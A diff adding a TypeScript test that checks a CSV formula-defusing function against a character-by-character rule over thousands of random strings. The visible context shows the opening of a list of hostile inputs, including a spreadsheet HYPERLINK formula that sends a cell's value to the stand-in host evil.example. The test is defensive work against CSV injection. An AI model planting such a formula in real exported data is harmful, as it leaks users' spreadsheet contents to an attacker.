@@ -27,6 +27,21 @@ describe('CSV', () => {
     expect(parseCsv(`${csvField('line\nbreak')},${csvField('q"uote')}\r\n`)).toEqual([{ line: 1, fields: ['line\nbreak', 'q"uote'] }])
   })
 
+  it('defuses exactly where a formula could start: at the start and after every cell break, also where one breaks and starts a cell', () => {
+    // The rule, one character at a time, as a spreadsheet reads it.
+    const starts = '=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20'
+    const breaks = ',;\t\r\n'
+    const byHand = (text: string) => [...text].map((ch, i) => (starts.includes(ch) && (i === 0 || breaks.includes(text[i - 1]!)) ? `'${ch}` : ch)).join('')
+    expect(defuseFormulas('\t\t=')).toBe("'\t'\t'=")
+    const alphabet = [...starts, ...breaks, 'a', '1', ' ', '"', "'"]
+    let seed = 7
+    const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) % alphabet.length
+    for (let n = 0; n < 5000; n++) {
+      const text = Array.from({ length: 1 + (n % 12) }, () => alphabet[next()]).join('')
+      expect(defuseFormulas(text), JSON.stringify(text)).toBe(byHand(text))
+    }
+  })
+
   // Values people write in reviews, names and addresses, and what an attacker would put there.
   const HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
